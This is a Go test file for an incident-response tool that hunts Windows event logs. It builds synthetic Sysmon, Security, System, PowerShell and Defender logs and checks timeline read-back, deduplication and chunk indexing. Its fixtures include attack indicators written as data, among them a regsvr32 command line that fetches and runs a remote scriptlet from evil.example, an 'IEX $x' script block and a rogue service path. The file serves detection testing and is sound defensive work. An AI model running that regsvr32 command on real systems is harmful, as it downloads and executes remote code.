package triage

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"hash/maphash"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/evtriage/evtriage/parser"
)

// openFiles is an Opener over files on disk (read-only, as the screen
// opens them), closed when the test ends.
func openFiles(t testing.TB) Opener {
	open := map[string]*parser.File{}
	t.Cleanup(func() {
		for _, f := range open {
			f.Close()
		}
	})
	return func(name string) (*parser.Reader, error) {
		if f, ok := open[name]; ok {
			return f.Reader, nil
		}
		f, err := parser.Open(name, parser.Options{Carve: true})
		if err != nil {
			return nil, err
		}
		open[name] = f
		return f.Reader, nil
	}
}

// oracle reads every event of files as the hunt does (in order, carving,
// each record once) and returns those of host in [from, to] in timeline
// order, as "file@offset".
func oracle(t testing.TB, files []string, host string, from, to time.Time) []string {
	t.Helper()
	type hit struct {
		src int
		ev  *parser.Event
	}
	seed := maphash.MakeSeed()
	seen := map[uint64]bool{}
	var hits []hit
	for i, name := range files {
		f, err := parser.Open(name, parser.Options{Carve: true})
		if err != nil {
			t.Fatal(err)
		}
		err = f.Events(context.Background(), func(ev *parser.Event) error {
			k := recordKey(seed, ev)
			if seen[k] {
				return nil
			}
			seen[k] = true
			if ev.Computer == host && !ev.Time.IsZero() && !ev.Time.Before(from) && !ev.Time.After(to) {
				hits = append(hits, hit{i, ev})
			}
			return nil
		})
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
	}
	slices.SortFunc(hits, func(a, b hit) int {
		if c := a.ev.Time.Compare(b.ev.Time); c != 0 {
			return c
		}
		if c := cmp.Compare(a.src, b.src); c != 0 {
			return c
		}
		return cmp.Compare(a.ev.Offset, b.ev.Offset)
	})
	out := make([]string, len(hits))
	for i, h := range hits {
		out[i] = fmt.Sprintf("%s@%d", files[h.src], h.ev.Offset)
	}
	return out
}

func refsOf(tl *Timeline) []string {
	out := make([]string, len(tl.Events))
	for i, e := range tl.Events {
		out[i] = fmt.Sprintf("%s@%d", e.File, e.Event.Offset)
	}
	return out
}

// hostLogs writes the logs of a host as an incident responder collects
// them: Sysmon, Security (with a second host's events forwarded into it),
// System, PowerShell and Defender in one file, a Sysmon log that wrapped
// around (file order is not time order), and the third log collected
// again later (its records again, and newer ones). It returns the files in the order they are hunted.
func hostLogs(t testing.TB, dir string) []string {
	t.Helper()
	var sysmon, security, other []*parser.Event
	for i := range 600 {
		when := at(3 * i)
		sysmon = append(sysmon, s1("WS1", uint64(1000+i), when, i+10, 2000+i, `C:\Windows\System32\svchost.exe`, 1, 600, `C:\Windows\System32\services.exe`))
		if i%20 == 7 {
			sysmon = append(sysmon, s1("WS1", uint64(5000+i), when.Add(time.Second), 9000+i, 7000+i, sys32Reg, i+10, 2000+i, `C:\Windows\System32\svchost.exe`,
				"CommandLine", `regsvr32.exe /s /u /i:http://evil.example/a.sct scrobj.dll`))
		}
		sec := ev("Security", 4624, "WS1", uint64(300+i), when.Add(1500*time.Millisecond),
			"TargetUserName", "alice", "TargetDomainName", "CORP", "LogonType", "3", "IpAddress", "10.0.0.9")
		if i%3 == 0 {
			sec.Computer = "WS2"
		}
		security = append(security, sec)
		if i%10 == 0 {
			other = append(other,
				ev("System", 7045, "WS1", uint64(10+i), when.Add(2*time.Second), "ServiceName", "evilsvc", "ImagePath", `C:\Users\Public\svc.exe`),
				ev("Microsoft-Windows-PowerShell/Operational", 4104, "WS1", uint64(20+i), when.Add(2*time.Second), "ScriptBlockText", "Get-Process\nIEX $x"),
				ev("Microsoft-Windows-Windows Defender/Operational", 1116, "WS1", uint64(30+i), when.Add(2500*time.Millisecond), "Threat Name", "Trojan:Win32/Evil", "Path", `C:\Users\Public\svc.exe`))
		}
	}
	files := []string{filepath.Join(dir, "Sysmon.evtx"), filepath.Join(dir, "Security.evtx"), filepath.Join(dir, "Other.evtx")}
	writeLog(t, files[0], sysmon)
	writeLog(t, files[1], security)
	writeLog(t, files[2], other)
	// A Sysmon log of 3 chunks that wrapped: its last chunk written holds
	// the newest events, the first one in the file does not hold the
	// oldest.
	ring := filepath.Join(dir, "Sysmon-ring.evtx")
	f, err := os.Create(ring)
	if err != nil {
		t.Fatal(err)
	}
	lw, err := parser.NewLiveWriter(f, parser.LiveOptions{MaxSize: 0x1000 + 3*0x10000})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 1000 {
		e := s7("WS1", uint64(20000+i), at(2*i).Add(700*time.Millisecond), i+10, 2000+i, sys32Reg, `C:\Users\Public\x.dll`, "false")
		if err := lw.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if !lw.Wrapped() {
		t.Fatal("the ring log did not wrap")
	}
	if err := lw.Close(); err != nil {
		t.Fatal(err)
	}
	f.Close()
	// Collected again later: the same records and a few newer ones.
	cp := filepath.Join(dir, "Other-later.evtx")
	later := slices.Clone(other)
	for i := range 5 {
		later = append(later, ev("System", 7036, "WS1", uint64(9000+i), at(1700+10*i), "param1", "Windows Update", "param2", "running"))
	}
	writeLog(t, cp, later)
	return append(files, ring, cp)
}

// huntFiles hunts files with the built-in rules.
func huntFiles(t testing.TB, files []string) *Result {
	t.Helper()
	h := NewHunter(Options{Rules: builtin(t)})
	for _, f := range files {
		if err := h.AddFile(context.Background(), f, nil); err != nil {
			t.Fatal(err)
		}
	}
	return h.Result()
}

// TestReadTimeline reads windows of a host's logs back and compares them
// with every event of the logs read in full: every log of the host (not
// only process events), across files, a wrapped log, a collected copy
// counted once, in time order; the findings on their events; only the
// chunks the window needs.
func TestReadTimeline(t *testing.T) {
	files := hostLogs(t, t.TempDir())
	res := huntFiles(t, files)
	ctx := context.Background()
	total := 0
	for _, f := range files {
		st, _ := os.Stat(f)
		total += int((st.Size() - 0x1000 + 0xffff) / 0x10000)
	}
	tests := []struct {
		name     string
		host     string
		from, to time.Time
		fewer    bool // reads fewer chunks than the logs hold
	}{
		{"five minutes", "WS1", at(900), at(1200), true},
		{"the wrapped log's span", "WS1", at(1600), at(2000), false},
		{"everything", "WS1", at(-10), at(4000), false},
		{"the other host", "WS2", at(0), at(600), false},
		{"an empty window", "WS1", at(-1000), at(-500), true},
		{"no such host", "WS9", at(0), at(4000), true},
		{"one second", "WS1", at(1500), at(1501), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tl, err := res.ReadTimeline(ctx, TimelineQuery{Host: tt.host, From: tt.from, To: tt.to, Max: 100000}, openFiles(t))
			if err != nil {
				t.Fatal(err)
			}
			want := oracle(t, files, tt.host, tt.from, tt.to)
			got := refsOf(tl)
			if !slices.Equal(got, want) {
				t.Fatalf("%d events, want %d\ngot  %.10q\nwant %.10q", len(got), len(want), got, want)
			}
			if tl.Total != len(want) || !tl.TotalExact || len(tl.Problems) > 0 {
				t.Errorf("total %d (exact %v), want %d; problems %v", tl.Total, tl.TotalExact, len(want), tl.Problems)
			}
			if tt.fewer && tl.Chunks >= total {
				t.Errorf("read %d chunks of %d", tl.Chunks, total)
			}
			// Every finding on an event of the window is flagged on it.
			flagged := 0
			for _, e := range tl.Events {
				for _, f := range e.Findings {
					if f.Event.File != e.File || f.Event.Event.Offset != e.Event.Offset {
						t.Errorf("finding on %s@%d flagged on %s@%d", f.Event.File, f.Event.Event.Offset, e.File, e.Event.Offset)
					}
					flagged++
				}
			}
			wantFlagged := 0
			for _, f := range res.Findings {
				if ev := f.Event.Event; ev.Computer == tt.host && !ev.Time.Before(tt.from) && !ev.Time.After(tt.to) {
					wantFlagged++
				}
			}
			if flagged != wantFlagged {
				t.Errorf("%d findings flagged, want %d", flagged, wantFlagged)
			}
		})
	}
	// The window of the log collected twice counts its records once.
	tl, err := res.ReadTimeline(ctx, TimelineQuery{Host: "WS1", From: at(1700), To: at(1780)}, openFiles(t))
	if err != nil || tl.Duplicates == 0 {
		t.Errorf("duplicates %d, %v; the copy's records are duplicates", tl.Duplicates, err)
	}
	kinds := map[string]bool{}
	for _, e := range tl.Events {
		kinds[ChannelShort(e.Event.Channel)] = true
	}
	for _, k := range []string{"Sysmon", "Security", "System", "PowerShell", "Defender"} {
		if !kinds[k] {
			t.Errorf("no %s event in the timeline: %v", k, kinds)
		}
	}
}

// TestReadTimelineNearest: past Max, the events nearest the center are
// kept, in time order.
func TestReadTimelineNearest(t *testing.T) {
	dir := t.TempDir()
	files := hostLogs(t, dir)[:4] // no copy: every record once
	res := huntFiles(t, files)
	from, to, center := at(0), at(3000), at(1234)
	all := oracle(t, files, "WS1", from, to)
	tl, err := res.ReadTimeline(context.Background(), TimelineQuery{Host: "WS1", From: from, To: to, Center: center, Max: 50}, openFiles(t))
	if err != nil {
		t.Fatal(err)
	}
	if len(tl.Events) != 50 || tl.Total != len(all) {
		t.Fatalf("%d events of %d; want 50 of %d", len(tl.Events), tl.Total, len(all))
	}
	first, last := tl.Events[0].Event.Time, tl.Events[49].Event.Time
	if first.After(center) || last.Before(center) || !slices.IsSortedFunc(tl.Events, func(a, b TimelineEvent) int { return a.Event.Time.Compare(b.Event.Time) }) {
		t.Errorf("kept %v … %v around %v, not in order or not around the center", first, last, center)
	}
	if i := slices.Index(all, refsOf(tl)[0]); i < 0 || !slices.Equal(all[i:i+50], refsOf(tl)) {
		t.Errorf("the events kept are not a run of the window's events")
	}
}

// TestReadTimelineInputs: an input that changed or went away since the
// hunt is reported, the rest still read; none left is an error; a
// cancelled context stops the reading.
func TestReadTimelineInputs(t *testing.T) {
	dir := t.TempDir()
	files := hostLogs(t, dir)
	res := huntFiles(t, files)
	q := TimelineQuery{Host: "WS1", From: at(0), To: at(300)}
	if err := os.Remove(files[2]); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(files[1], os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.Write(make([]byte, 0x10000))
	f.Close()
	tl, err := res.ReadTimeline(context.Background(), q, openFiles(t))
	if err != nil {
		t.Fatal(err)
	}
	var msgs []string
	for _, p := range tl.Problems {
		msgs = append(msgs, p.Error())
	}
	joined := strings.Join(msgs, "\n")
	if !errors.Is(errors.Join(tl.Problems...), ErrChanged) || !strings.Contains(joined, "Other.evtx") || len(tl.Events) == 0 {
		t.Errorf("problems:\n%s\n%d events", joined, len(tl.Events))
	}
	for _, e := range tl.Events {
		if e.File == files[2] {
			t.Errorf("an event of the removed file: %s", e.File)
		}
	}
	none := func(string) (*parser.Reader, error) { return nil, os.ErrNotExist }
	if _, err := res.ReadTimeline(context.Background(), q, none); !errors.Is(err, ErrNoReadBack) || !errors.Is(err, os.ErrNotExist) {
		t.Errorf("no input: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := res.ReadTimeline(ctx, q, openFiles(t)); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
}

// TestChunkIndex: the index holds each chunk once with its hosts and
// time range, costs a few dozen bytes a chunk, and Chunks finds a
// host's chunks by time.
func TestChunkIndex(t *testing.T) {
	files := hostLogs(t, t.TempDir())
	res := huntFiles(t, files)
	chunks := 0
	for _, f := range files {
		rd := must(parser.Open(f, parser.Options{}))
		chunks += rd.Chunks()
		rd.Close()
	}
	x := res.chunks
	if len(x.spans) > chunks || len(x.spans) < chunks-2 {
		t.Errorf("%d spans for %d chunks", len(x.spans), chunks)
	}
	if n := len(res.Chunks("WS2", time.Time{}, time.Time{})); n == 0 || n >= len(x.spans) {
		t.Errorf("WS2 is in %d chunks of %d", n, len(x.spans))
	}
	if len(x.more) == 0 {
		t.Error("no chunk holds two hosts")
	}
	for _, c := range res.Chunks("WS1", at(900), at(901)) {
		if c.First.After(at(901)) || c.Last.Before(at(900)) || c.Records <= 0 {
			t.Errorf("chunk %s#%d (%v–%v, %d records) does not overlap the second", c.File, c.Chunk, c.First, c.Last, c.Records)
		}
	}
	if n, ok := res.InputSize(files[0]); !ok || n <= 0 {
		t.Errorf("size of %s: %d %v", files[0], n, ok)
	}
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// TestReadTimelineOnLogs reads the ±5 minutes around findings of the
// scenarios (samples/logs, five hosts) and of the shared real logs back
// and compares them with the logs read in full.
func TestReadTimelineOnLogs(t *testing.T) {
	scenarios, _ := filepath.Glob(filepath.Join("..", "samples", "logs", "*.evtx"))
	if len(scenarios) == 0 {
		t.Fatal("no scenario logs in samples/logs")
	}
	sets := []struct {
		name  string
		files func(t *testing.T) []string
	}{
		{"scenarios", func(*testing.T) []string { return scenarios }},
		{"shared", func(t *testing.T) []string {
			files, _ := filepath.Glob(filepath.Join(sharedDir(t), "evtx", "*.evtx"))
			return files
		}},
	}
	for _, set := range sets {
		t.Run(set.name, func(t *testing.T) {
			files := set.files(t)
			res := huntFiles(t, files)
			if len(res.Findings) == 0 {
				t.Fatal("no findings")
			}
			hosts := map[string]bool{}
			for i, f := range res.Findings {
				ev := f.Event.Event
				if i%50 != 0 && hosts[ev.Computer] {
					continue // a few per host
				}
				hosts[ev.Computer] = true
				from, to := ev.Time.Add(-5*time.Minute), ev.Time.Add(5*time.Minute)
				tl, err := res.ReadTimeline(context.Background(), TimelineQuery{Host: ev.Computer, From: from, To: to, Center: ev.Time, Max: 100000}, openFiles(t))
				if err != nil {
					t.Fatal(err)
				}
				want := oracle(t, files, ev.Computer, from, to)
				if got := refsOf(tl); !slices.Equal(got, want) {
					t.Fatalf("around %s@%d: %d events, want %d", f.Event.File, ev.Offset, len(got), len(want))
				}
				if !slices.ContainsFunc(tl.Events, func(e TimelineEvent) bool { return slices.Contains(e.Findings, f) }) {
					t.Errorf("the finding %s@%d is not flagged in its own timeline", f.Event.File, ev.Offset)
				}
			}
			t.Logf("%d hosts, %d findings", len(hosts), len(res.Findings))
		})
	}
}
